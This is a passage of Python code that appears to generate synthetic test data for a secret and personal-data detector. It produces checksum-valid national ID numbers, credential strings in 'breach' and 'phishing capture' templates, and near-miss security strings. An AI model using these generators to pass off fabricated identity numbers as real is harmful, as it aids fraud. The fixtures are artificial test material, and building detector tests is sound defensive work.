    """Chinese resident id (GB 11643): region, YYYYMMDD, sequence, ISO 7064 MOD 11-2 check."""
    body = (rng.choice(["110101", "310104", "440305", "510107", "330106", "420106"])
            + f"{rng.randint(1950, 2004)}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}" + digits(rng, 3))
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return body + "10X98765432"[sum(int(c) * w for c, w in zip(body, weights, strict=True)) % 11]


def be_nrn(rng: random.Random) -> str:
    """Belgian national number YY.MM.DD-NNN.CC: CC = 97 - (YYMMDDNNN mod 97), a 2 in front from 2000 on."""
    year, born_2000s = rng.randint(0, 99), rng.random() < 0.3
    base = f"{year:02d}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}{rng.randint(1, 997):03d}"
    check = 97 - int(("2" if born_2000s else "") + base) % 97
    return f"{base[:2]}.{base[2:4]}.{base[4:6]}-{base[6:]}.{check:02d}"


def br_cpf(rng: random.Random) -> str:
    """Brazilian CPF 000.000.000-00: two mod 11 digits (Receita Federal)."""
    nums = [int(c) for c in digits(rng, 9)]
    for length in (9, 10):
        total = sum(d * w for d, w in zip(nums, range(length + 1, 1, -1), strict=True))
        nums.append(total * 10 % 11 % 10)
    s = "".join(map(str, nums))
    return f"{s[:3]}.{s[3:6]}.{s[6:9]}-{s[9:]}"


def pl_pesel(rng: random.Random) -> str:
    """Polish PESEL: YYMMDD (month + 20 from 2000), four serial digits, check by weights 1-3-7-9."""
    year = rng.randint(1950, 2010)
    month = rng.randint(1, 12) + (20 if year >= 2000 else 0)
    body = f"{year % 100:02d}{month:02d}{rng.randint(1, 28):02d}{digits(rng, 4)}"
    total = sum(int(c) * w for c, w in zip(body, [1, 3, 7, 9, 1, 3, 7, 9, 1, 3], strict=True))
    return body + str((10 - total % 10) % 10)


VERHOEFF_D = ["0123456789", "1234067895", "2340178956", "3401289567", "4012395678", "5987604321", "6598710432",
              "7659821043", "8765932104", "9876543210"]
VERHOEFF_P = ["0123456789", "1576283094", "5803796142", "8916043527", "9453126870", "4286573901", "2793806415",
              "7046913258"]
VERHOEFF_INV = "0432156789"


def verhoeff_digit(num: str) -> str:
    """The Verhoeff check digit that completes `num` (dihedral group D5)."""
    c = 0
    for i, ch in enumerate(reversed(num)):
        c = int(VERHOEFF_D[c][int(VERHOEFF_P[(i + 1) % 8][int(ch)])])
    return VERHOEFF_INV[c]


def in_aadhaar(rng: random.Random) -> str:
    """Indian Aadhaar: 12 digits, the first 2-9, the last a Verhoeff digit (UIDAI), printed in fours."""
    body = str(rng.randint(2, 9)) + digits(rng, 10)
    return group(body + verhoeff_digit(body), 4, " ")


ID_MAKERS: dict[str, tuple[Callable[[random.Random], str], list[str]]] = {
    "se_personnummer": (se_personnummer, ["personnummer", "pnr"]),
    "fi_hetu": (fi_hetu, ["henkilötunnus", "hetu"]),
    "cn_resident_id": (cn_resident_id, ["身份证号", "居民身份证"]),
    "be_nrn": (be_nrn, ["rijksregisternummer", "numéro de registre national"]),
    "br_cpf": (br_cpf, ["CPF", "nº do CPF"]),
    "pl_pesel": (pl_pesel, ["PESEL", "nr PESEL"]),
    "in_aadhaar": (in_aadhaar, ["Aadhaar", "आधार संख्या"])}
ID_TEMPLATES = ["{c}: {v}", "HR dump row — {c} {v}", "DLP alert, {c} detected: {v}",
                "phishing form capture: name=E. Berg&{c}={v}", "breach sample line: {c}={v};dob=1988-02-11"]


def national_id(kind: str) -> Callable[[random.Random, int], Value]:
    """A value generator for one national id with its country's context word."""
    make, words = ID_MAKERS[kind]

    def gen(rng: random.Random, i: int) -> Value:
        v = make(rng)
        return "labelled", v, ID_TEMPLATES[i % len(ID_TEMPLATES)].format(c=rng.choice(words), v=v), False
    return gen


KINDS: dict[str, Callable[[random.Random, int], Value]] = {
    "password": v_password, "aws_secret": v_aws_secret, "webhook": v_webhook, "stripe_whsec": v_stripe_whsec,
    "connection_string": v_connection_string, "labelled_key": v_labelled_key, "disguised": v_disguised,
    "email": v_email, "phone_us_ca": v_phone_us_ca, "phone_uk": v_phone_uk, "phone_fr": v_phone_fr,
    "phone_de": v_phone_de, "phone_in": v_phone_in, "ssn": v_ssn, "card": v_card, "iban": v_iban,
    "jwt": v_jwt, "session_cookie": v_session_cookie, "auth_header": v_auth_header, "private_key": v_private_key,
    "ntlm_hash": v_ntlm_hash, "github_token": provider("GITHUB_TOKEN", github_token),
    "slack_token": provider("SLACK_BOT_TOKEN", slack_token), "gitlab_token": provider("GITLAB_TOKEN", gitlab_token),
    "google_api_key": provider("GOOGLE_API_KEY", google_api_key),
    "sendgrid_key": provider("SENDGRID_API_KEY", sendgrid_key), "totp_seed": v_totp_seed,
    "recovery_code": v_recovery_code, **{kind: national_id(kind) for kind in ID_MAKERS}}


def carry(rng: random.Random, i: int, value: Value) -> tuple[str, str, bool]:
    """Every third value in a JSON carrier (unless its snippet is raw only), the rest in text; both lists rotate
    so each kind meets every carrier."""
    _style, secret, snip, raw_only = value
    if i % 3 == 0 and not raw_only:
        name = list(JSON_CARRIERS)[(i // 3) % len(JSON_CARRIERS)]
        return name, JSON_CARRIERS[name](rng, snip, secret), True
    name = list(TEXT_CARRIERS)[(i - i // 3 - 1) % len(TEXT_CARRIERS)]
    return name, TEXT_CARRIERS[name](rng, snip, secret), False


def generate() -> Iterator[Case]:
    """PER_KIND cases of each kind, deterministic."""
    rng = random.Random(SEED)
    for kind, gen in KINDS.items():
        for i in range(PER_KIND):
            value = gen(rng, i)
            carrier, text, is_json = carry(rng, i, value)
            yield Case(kind, f"{carrier}/{value[0]}", value[1], text, is_json)


# ---- near misses ----------------------------------------------------------------------------------------------

def _luhn_bad(rng: random.Random) -> str:
    """16 digits whose last is not the Luhn digit."""
    partial = rng.choice("3456") + digits(rng, 14)
    good = int(luhn_digit(partial))
    return partial + str((good + rng.randint(1, 9)) % 10)


def _ups(rng: random.Random) -> str:
    """A UPS tracking number: 1Z, shipper account, service code, package digits."""
    return f"1Z{pick(rng, UPPER + string.digits, 6)}{rng.choice(['01', '02', '03', '12'])}{digits(rng, 8)}"


ATTACK_IDS = ["T1003.001", "T1059.001", "T1110.003", "T1566.001", "T1078.004", "T1550.002", "T1558.003",
              "T1021.001", "T1555.003", "T1539", "T1557", "T1552.001", "T1486", "T1071.001"]
TACTICS = ["TA0001", "TA0002", "TA0003", "TA0004", "TA0005", "TA0006", "TA0007", "TA0008", "TA0010", "TA0011",
           "TA0040"]
"""MITRE ATT&CK technique and tactic ids as the public matrix numbers them."""

NEAR_MISSES: dict[str, Callable[[random.Random], str]] = {
    "ioc_hash": lambda r: r.choice([f"SHA256 {pick(r, HEX, 64)}  invoice_2025.iso (Qakbot loader)",
                                       f"MD5: {pick(r, HEX, 32)} dropped by the macro",
                                       f"sha1={pick(r, HEX, 40)} signer=none"]),
    "finding_id": lambda r: r.choice([f"GuardDuty finding id {pick(r, HEX, 32)} archived",
                                         f"Defender alert {_guid(r)} resolved as benign positive"]),
    "cve": lambda r: f"CVE-20{r.randint(19, 25)}-{r.randint(1000, 49999)} (CVSS 3.1 {r.randint(70, 100) / 10}, "
                     "AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H) on port 443",
    "attack_id": lambda r: f"{r.choice(ATTACK_IDS)} mapped, tactic {r.choice(TACTICS)}, {r.randint(2, 40)} alerts",
    "event_ids": lambda r: f"EventID 4625 LogonType {r.choice([2, 3, 10])} Status 0xC000006D SubStatus "
                           f"0xC000006A pid {r.randint(100, 9999)} ppid {r.randint(100, 9999)}",
    "lab_network": lambda r: f"{_ip(r)}:{r.choice([22, 445, 3389, 5985])} open; scope 192.168.{r.randint(0, 255)}.0/24",
    "timestamps": lambda r: f"first seen {_ts(r)}, last seen epoch_ms "
                            f"{r.randint(1_735_000_000_000, 1_760_000_000_000)}",
    "trace_ids": lambda r: r.choice([f"traceparent: 00-{pick(r, HEX, 32)}-{pick(r, HEX, 16)}-01",
                                        f"x-amz-request-id: {pick(r, '0123456789ABCDEF', 16)}",
                                        f"x-ms-request-id: {_guid(r)}"]),
    "selectors": lambda r: r.choice(["#loginForm > input[name='password']", "//input[@type='password']",
                                        "form#signin input[autocomplete='current-password']",
                                        f"div.mfa-{pick(r, LOWER, 5)} > input#otp-code"]),
    "csrf_names": lambda r: r.choice(['<input type="hidden" name="__RequestVerificationToken">',
                                         "csrfmiddlewaretoken missing from the POST body",
                                         "form field authenticity_token not sent",
                                         "header X-CSRF-Token expected by /api/login"]),
    "placeholders": lambda r: r.choice(["password: ********", "Password: <REDACTED>", "email: you@example.com",
                                           "api_key: YOUR_API_KEY_HERE", "AWS_SECRET_ACCESS_KEY=<your-secret-key>",
                                           "token: ${GITHUB_TOKEN}", "IBAN: DEXX XXXX XXXX XXXX XXXX XX"]),
    "aws_docs_example": lambda r: r.choice(["aws_access_key_id = AKIAIOSFODNN7EXAMPLE",
                                               "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"]),
    "masked": lambda r: r.choice([f"card ending in {digits(r, 4)}", f"**** **** **** {digits(r, 4)}",
                                     f"SSN XXX-XX-{digits(r, 4)}", f"{r.choice('jmsk')}****@g****.com",
                                     f"+44 7*** ***{digits(r, 3)}", f"IBAN DE** **** **** **** **{digits(r, 2)} 00"]),
    "versions": lambda r: r.choice([f"OpenSSH_9.{r.randint(0, 8)}p1 Ubuntu-3ubuntu0.{r.randint(1, 9)}",
                                       f"Apache/2.4.{r.randint(40, 62)} (Ubuntu)",
                                       f"nginx/1.{r.randint(18, 27)}.{r.randint(0, 3)}",
                                       f"Windows 10.0.19045.{r.randint(3000, 5000)}",
                                       f"Falcon sensor 7.{r.randint(10, 20)}.{r.randint(10000, 19999)}.0"]),
    "luhn_invalid": lambda r: f"transaction reference {_luhn_bad(r)} (wire recall request)",
    "toll_free": lambda r: r.choice([f"bank fraud line (toll-free): 1-800-{r.randint(200, 999)}-{digits(r, 4)}",
                                        f"Freephone 0800 {digits(r, 3)} {digits(r, 4)}",
                                        f"Numéro Vert 0 800 {digits(r, 2)} {digits(r, 2)} {digits(r, 2)}",
                                        f"kostenlose Hotline 0800 {digits(r, 7)}",
                                        f"toll free 1800-{digits(r, 3)}-{digits(r, 4)}"]),
    "ticket_ids": lambda r: r.choice([f"INC00{digits(r, 5)}", f"SIR00{digits(r, 5)}", f"SEC-{r.randint(100, 9999)}",
                                         f"Sentinel incident #{r.randint(100, 99999)}"]) + " reassigned to Tier 2",
    "tracking": lambda r: f"lure text: your parcel {_ups(r)} is held at customs, pay the fee",
    "order_numbers": lambda r: f"lure text: Order #{digits(r, 3)}-{digits(r, 7)}-{digits(r, 7)} was cancelled",
    "geo": lambda r: f"sign-in from lat {r.uniform(-60, 60):.4f} lon {r.uniform(-120, 140):.4f} "
                     f"(ASN AS{r.randint(1000, 64000)}, city centroid)",
    "pixel_sizes": lambda r: f"screenshot {r.choice(['1920x1080', '1366x768', '2560x1440'])}, favicon 32x32, "
                             f"logo {r.randint(100, 400)}x{r.randint(30, 120)}px",
    "asset_hashes": lambda r: f"/static/js/main.{pick(r, HEX, 8)}.js?v={pick(r, HEX, 6)} and "
                              f"chunk-{pick(r, HEX, 20)}.css loaded",
}


def generate_negatives() -> Iterator[tuple[str, str]]:
    """NEGATIVES_PER_SORT near misses of each sort, as (sort, text), every third inside a JSON carrier."""
    rng = random.Random(SEED + 1)
    for sort, make in NEAR_MISSES.items():
        for i in range(NEGATIVES_PER_SORT):
            text = make(rng)
            if i % 3 == 0:
                name = list(JSON_CARRIERS)[i % len(JSON_CARRIERS)]
                text = JSON_CARRIERS[name](rng, text, "")
            yield sort, text
